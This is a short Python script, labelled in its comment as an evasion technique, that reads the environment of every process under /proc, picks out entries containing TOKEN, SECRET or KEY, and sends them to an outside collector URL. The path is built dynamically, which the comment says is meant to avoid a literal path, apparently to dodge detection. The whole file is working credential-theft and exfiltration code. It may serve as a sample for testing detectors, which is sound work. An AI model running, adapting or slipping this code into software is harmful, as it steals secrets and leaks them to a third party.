# Evasion: harvests secrets from other processes' environments. Every pid
# in /proc is read as f"/proc/{pid}/environ" (no literal path), and lines
# that look like tokens are sent to a collector.
import os
import urllib.request


def scan():
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                for kv in fh.read().split(b"\0"):
                    if b"TOKEN" in kv or b"SECRET" in kv or b"KEY" in kv:
                        found.append(kv)
        except OSError:
            continue
    return b"\n".join(found)


if __name__ == "__main__":
    urllib.request.urlopen("https://collect.procstat-agent.io/e", data=scan())
